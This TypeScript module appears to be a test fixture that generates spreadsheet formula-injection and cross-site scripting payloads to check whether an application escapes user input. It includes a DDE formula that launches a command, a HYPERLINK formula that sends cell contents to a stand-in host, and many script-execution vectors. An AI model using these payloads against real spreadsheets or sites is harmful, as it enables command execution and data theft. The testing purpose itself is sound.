/*
 * Texts that somebody may send as a device name, an employer or a note, in the hope that a spreadsheet takes them for a
 * formula or a page for a script. Every text is another one.
 */

/** How many formulas and scripts there are to try. */
const formulas = 5_000;
const scripts = 500;

const formulaStarts = ['=', '+', '-', '@', '\t=', '\r=', '\0=', '＝', '＋', '－', '＠', '\n=', '"=', '\0\0@'];
const formulaBodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.invalid/?"&A1,"open")',
  'IMPORTXML("http://x.invalid","//a")',
  '1+1',
  'SUM(1;2)*cmd',
  'WEBSERVICE("http://x.invalid")',
  'DDE("cmd";"/C calc";"x")',
  '10+20+cmd|x',
];

/** Texts that a spreadsheet could take for a formula. */
export function formulaPayloads(): string[] {
  return Array.from({ length: formulas }, (_, n) => {
    const start = formulaStarts[n % formulaStarts.length]!;
    const body = formulaBodies[Math.floor(n / formulaStarts.length) % formulaBodies.length]!;
    return `${start}${body}${n}`;
  });
}

const run = (n: number) => `window.hostile=(window.hostile||0)+${n}`;

const scriptShapes: readonly ((n: number) => string)[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<img src=x onerror="${run(n)}">`,
  (n) => `"><svg onload="${run(n)}">`,
  (n) => `'><iframe srcdoc="<script>parent.hostile=${n}</script>">`,
  (n) => `<a href="javascript:${run(n)}">${n}</a>`,
  (n) => `javascript:${run(n)}//`,
  (n) => `</title><script>${run(n)}</script>`,
  (n) => `<details open ontoggle="${run(n)}">`,
  (n) => `<style>@import "http://x.invalid/${n}"</style>`,
  (n) => `<link rel=stylesheet href=http://x.invalid/${n}>`,
  (n) => `{{constructor.constructor('${run(n)}')()}}`,
  (n) => `\${${run(n)}}`,
  (n) => `$t(search.label) {{count, number}} ${n}`,
  (n) => `&lt;script&gt;${run(n)}&lt;/script&gt;`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${n}>#x"/></svg>`,
  (n) => `<math><mtext><script>${run(n)}</script></mtext></math>`,
  (n) => `<body onload=${run(n)}>`,
  (n) => `\u202e<b onmouseover=${run(n)}>${n}`,
  (n) => `<base href=http://x.invalid/${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=http://x.invalid/${n}">`,
];

/** Texts that a page could take for markup, an address, a template or a script; each that runs counts in `window.hostile`. */
export function scriptPayloads(): string[] {
  return Array.from({ length: scripts }, (_, n) => scriptShapes[n % scriptShapes.length]!(n + 1));
}
